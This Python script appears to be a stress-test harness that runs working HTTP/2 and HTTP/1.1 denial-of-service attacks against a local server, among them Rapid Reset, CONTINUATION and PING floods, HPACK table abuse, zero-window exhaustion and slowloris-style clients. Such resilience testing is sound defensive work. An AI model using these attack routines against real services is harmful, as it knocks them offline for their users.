"""Attacks, as one child process runs them: it sends as fast as it is let, comes
back when it is thrown out, and tells at its end what it did.

    attacks.py NAME PORT SECONDS
"""

import json
import selectors
import socket
import struct
import sys
import time

import common as c

BURST = 100
HEAD = c.fields(extra=(("content-type", "application/json"), ("content-length", str(len(c.BODY)))))
GET = c.fields(method="GET", path="/version")
OPEN = c.PREFACE + c.settings()


def whole(stream):
    """A request that an engine answers."""
    return c.frame(c.HEADERS, c.END_HEADERS, stream, HEAD) + c.frame(c.DATA, c.END_STREAM, stream, c.BODY)


def streams(first, count=BURST):
    return range(first, first + 2 * count, 2)


class Attack:
    """What one connection sends: first, then again and again."""

    connections = 4
    reads = True
    # Bytes taken of a socket before anything else is done.
    receive = 65536
    # Once, or for ever.
    repeats = True
    # Whether it has begun only when each connection has got an answer.
    answered = False

    def __init__(self):
        self.stream = 1

    def first(self):
        return OPEN

    def burst(self):
        raise NotImplementedError

    def take(self, count=BURST):
        ids = streams(self.stream, count)
        self.stream += 2 * count
        return ids

    def heard(self, data):
        """What is said to what was heard."""
        return b""


class RapidReset(Attack):
    """CVE-2023-44487: streams that are reset as soon as they are open."""

    def burst(self):
        reset = struct.pack(">I", 8)
        return b"".join(whole(i) + c.frame(c.RST_STREAM, 0, i, reset) for i in self.take())


class MadeYouReset(Attack):
    """CVE-2025-8671: streams that the server is made to reset itself."""

    def burst(self):
        bad = struct.pack(">I", 0)
        return b"".join(whole(i) + c.frame(c.WINDOW_UPDATE, 0, i, bad) for i in self.take())


class MadeYouResetByFrames(Attack):
    """The same, by DATA on streams that have ended."""

    def burst(self):
        return b"".join(whole(i) + c.frame(c.DATA, 0, i, b"x") for i in self.take())


class Continuation(Attack):
    """CVE-2024-27316: a head without end."""

    def burst(self):
        part = c.frame(c.CONTINUATION, 0, self.stream, c.literal("x-a", "b" * 1000) * 16)
        if self.stream == 1 and not getattr(self, "begun", False):
            self.begun = True
            return c.frame(c.HEADERS, c.END_STREAM, 1, GET) + part * 4
        return part * 4


class EmptyContinuation(Continuation):
    """The same without a byte in it."""

    def burst(self):
        part = c.frame(c.CONTINUATION, 0, 1) * 2000
        if not getattr(self, "begun", False):
            self.begun = True
            return c.frame(c.HEADERS, c.END_STREAM, 1, GET) + part
        return part


class EmptyData(Attack):
    """CVE-2019-9518: DATA frames with nothing in them."""

    def first(self):
        return OPEN + c.frame(c.HEADERS, c.END_HEADERS, 1, c.fields())

    def burst(self):
        return c.frame(c.DATA, 0, 1) * 2000


class Settings(Attack):
    """CVE-2019-9515."""

    def burst(self):
        return c.settings(window=65535) * 1000


class Ping(Attack):
    """CVE-2019-9512."""

    def burst(self):
        return c.frame(c.PING, 0, 0, b"12345678") * 1000


class PingUnread(Ping):
    """The same by a client that never reads the answers."""

    reads = False


class SettingsUnread(Settings):
    """SETTINGS whose acknowledgements are never read."""

    reads = False


class Priority(Attack):
    """CVE-2019-9513."""

    def burst(self):
        return b"".join(c.frame(c.PRIORITY, 0, i, struct.pack(">IB", 0, 1)) for i in self.take(500))


class WindowUpdate(Attack):
    """Window updates of one byte."""

    def burst(self):
        return c.frame(c.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000


class Bomb(Attack):
    """CVE-2026-49975: a table's entry, named again and again in one byte each."""

    def first(self):
        entry = c.literal("x-bomb", "b" * 3900, 0x40)
        return c.PREFACE + c.settings(window=0) + c.frame(
            c.HEADERS, c.END_HEADERS | c.END_STREAM, 1, GET + entry
        )

    def burst(self):
        self.take(1)
        block = GET + b"\xbe" * 16000
        return b"".join(
            c.frame(c.HEADERS, c.END_HEADERS | c.END_STREAM, i, block) for i in self.take(8)
        )


class Crumbs(Attack):
    """The same by cookies of no length."""

    def first(self):
        return c.PREFACE + c.settings(window=0)

    def burst(self):
        block = GET + c.literal("cookie", "", 0x40) + b"\xbe" * 15000
        return b"".join(
            c.frame(c.HEADERS, c.END_HEADERS | c.END_STREAM, i, block) for i in self.take(8)
        )


class ZeroWindow(Attack):
    """CVE-2019-9517 and 9511: answers are asked for and never taken."""

    connections = 100
    repeats = False

    def first(self):
        asked = b"".join(
            c.frame(c.HEADERS, c.END_HEADERS | c.END_STREAM, i, c.fields("GET", "/metrics"))
            for i in streams(1, 128)
        )
        return c.PREFACE + c.settings(window=0) + asked


class Unread(ZeroWindow):
    """The same with open windows, and a socket that nobody reads."""

    reads = False

    def first(self):
        asked = b"".join(
            c.frame(c.HEADERS, c.END_HEADERS | c.END_STREAM, i, c.fields("GET", "/metrics"))
            for i in streams(1, 128)
        )
        wide = c.frame(c.WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 65536))
        return c.PREFACE + c.settings(window=(1 << 31) - 1) + wide + asked


class Uploads(Attack):
    """Bodies that are begun on every stream and never ended."""

    connections = 20
    repeats = False

    def first(self):
        head = c.fields(extra=(("content-type", "application/json"),))
        piece = c.frame(c.DATA, 0, 1, b" " * 7000)[9:]
        return OPEN + b"".join(
            c.frame(c.HEADERS, c.END_HEADERS, i, head) + c.frame(c.DATA, 0, i, piece)
            for i in streams(1, 100)
        )


class SlowHead(Attack):
    """1,000 slow clients: a byte of a head now and then."""

    connections = 1000
    every = 2.0

    def first(self):
        return b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nx-slow: "

    def burst(self):
        return b"a"


class SlowBody(SlowHead):
    """1,000 slow clients: a byte of a body now and then."""

    def first(self):
        return (
            f"POST {c.CHAT} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
            'content-length: 100000\r\n\r\n{"model":"m","messages":[{"role":"user","content":"'
        ).encode()

    def burst(self):
        return b"a"


class SlowRead(SlowHead):
    """1,000 slow clients: pages are asked for, and read a few bytes at a time."""

    receive = 16
    repeats = False

    def first(self):
        return b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n" * 40


class IdleSilent(Attack):
    """10,000 connections that never say a word."""

    connections = 10_000
    repeats = False

    def first(self):
        return b""


class IdleKept(IdleSilent):
    """10,000 kept connections after a request each."""

    answered = True

    def first(self):
        return b"GET /version HTTP/1.1\r\nhost: x\r\n\r\n"


class IdleChat(IdleKept):
    """The same after a request that an engine answered."""

    def first(self):
        return c.chat()


class IdleHttp2(IdleKept):
    """10,000 connections of HTTP/2 after a request each."""

    def first(self):
        return OPEN + c.frame(c.HEADERS, c.END_HEADERS | c.END_STREAM, 1, GET)


ALL = {
    "h2 rapid reset": RapidReset,
    "h2 made-you-reset": MadeYouReset,
    "h2 made-you-reset, DATA": MadeYouResetByFrames,
    "h2 continuation": Continuation,
    "h2 empty continuation": EmptyContinuation,
    "h2 empty DATA": EmptyData,
    "h2 SETTINGS": Settings,
    "h2 SETTINGS, unread": SettingsUnread,
    "h2 PING": Ping,
    "h2 PING, unread": PingUnread,
    "h2 PRIORITY": Priority,
    "h2 WINDOW_UPDATE": WindowUpdate,
    "h2 bomb": Bomb,
    "h2 bomb, cookies": Crumbs,
    "h2 zero window": ZeroWindow,
    "h2 unread": Unread,
    "h2 uploads": Uploads,
    "1,000 slow heads": SlowHead,
    "1,000 slow bodies": SlowBody,
    "1,000 slow readers": SlowRead,
    "10,000 idle, silent": IdleSilent,
    "10,000 idle, kept": IdleKept,
    "10,000 idle, after chat": IdleChat,
    "10,000 idle, h2": IdleHttp2,
}


class Link:
    """One connection of an attack."""

    def __init__(self, attack, port, number):
        self.attack = attack()
        self.socket = socket.socket()
        if self.attack.receive < 65536 or not self.attack.reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        # More than one address, or the ports of one run out.
        self.socket.bind((f"127.0.0.{2 + number % 8}", 0))
        self.socket.setblocking(False)
        self.socket.connect_ex(("127.0.0.1", port))
        self.out = memoryview(self.attack.first())
        self.next = 0.0
        self.heard = 0


def run(name, port, seconds):
    """Attacks for so long."""
    kind = ALL[name]
    chooser = selectors.DefaultSelector()
    told = {"connections": 0, "ended": 0, "sent": 0, "heard": 0, "answered": 0, "goaways": 0}
    every = getattr(kind, "every", 0.0)

    def open_one():
        link = Link(kind, port, told["connections"])
        told["connections"] += 1
        chooser.register(link.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, link)

    def close(link):
        chooser.unregister(link.socket)
        link.socket.close()
        told["ended"] += 1
        back.append(time.monotonic() + 0.02)

    def write(link, now):
        if not len(link.out):
            if not kind.repeats or now < link.next:
                chooser.modify(link.socket, selectors.EVENT_READ, link)
                resting.append(link)
                return
            link.next = now + every
            link.out = memoryview(link.attack.burst())
        sent = link.socket.send(link.out)
        told["sent"] += sent
        link.out = link.out[sent:]

    def read(link):
        data = link.socket.recv(link.attack.receive)
        if not data:
            raise ConnectionResetError
        told["heard"] += len(data)
        told["answered"] += not link.heard
        link.heard += len(data)
        if b"\x07\x00\x00\x00\x00\x00" in data:
            told["goaways"] += 1

    back, resting = [], []
    # Of the time that it takes to begin, nothing is taken off.
    until, ready_told = time.monotonic() + 60, False
    while (now := time.monotonic()) < until:
        while told["connections"] < kind.connections and told["connections"] - told["ended"] < kind.connections:
            open_one()
            if told["connections"] % 100 == 0:
                break
        while back and back[0] < now:
            back.pop(0)
            open_one()
        begun = told["answered" if kind.answered else "connections"]
        if not ready_told and begun >= kind.connections:
            ready_told, until = True, now + seconds
            print("ready", flush=True)
        if every and resting and now >= resting[0].next:
            for link in resting:
                if link.socket.fileno() >= 0:
                    chooser.modify(link.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, link)
            resting.clear()
        for key, mask in chooser.select(0.02):
            link = key.data
            try:
                if mask & selectors.EVENT_READ:
                    if kind.reads:
                        read(link)
                    elif not mask & selectors.EVENT_WRITE:
                        chooser.unregister(link.socket)
                        chooser.register(link.socket, selectors.EVENT_WRITE, link)
                if mask & selectors.EVENT_WRITE:
                    write(link, now)
            except BlockingIOError:
                pass
            except OSError:
                close(link)
            except KeyError:
                pass
        if not every:
            resting.clear()
        if kind.receive < 1000:
            time.sleep(0.05)
    told["open"] = told["connections"] - told["ended"]
    print(json.dumps(told), flush=True)


if __name__ == "__main__":
    run(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
